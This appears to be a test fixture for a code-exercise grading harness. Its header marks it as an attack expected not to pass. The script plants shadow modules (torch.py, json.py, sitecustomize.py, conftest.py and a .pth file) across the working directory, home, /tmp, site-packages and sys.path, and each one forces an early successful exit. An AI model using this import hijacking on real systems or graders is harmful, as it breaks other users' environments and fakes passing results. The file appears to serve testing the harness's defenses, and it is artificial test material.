# attack: leaves its own torch, json and sitecustomize where the next run may find them
# expect: not passed
# exercise: spiral-classifier
# base: starter
# place: before

import os
import site
import sys

CODE = "print('SHADOW MODULE'); import os; os._exit(0)"
folders = {os.getcwd(), os.path.expanduser("~"), "/tmp", site.getusersitepackages(), *sys.path}
for folder in folders:
    for name in ("torch.py", "json.py", "sitecustomize.py", "usercustomize.py", "conftest.py", "torchdojo.py", "x.pth"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write("import os; os._exit(0)" if name.endswith(".pth") else CODE)
        except OSError as refused:
            print(folder, refused)
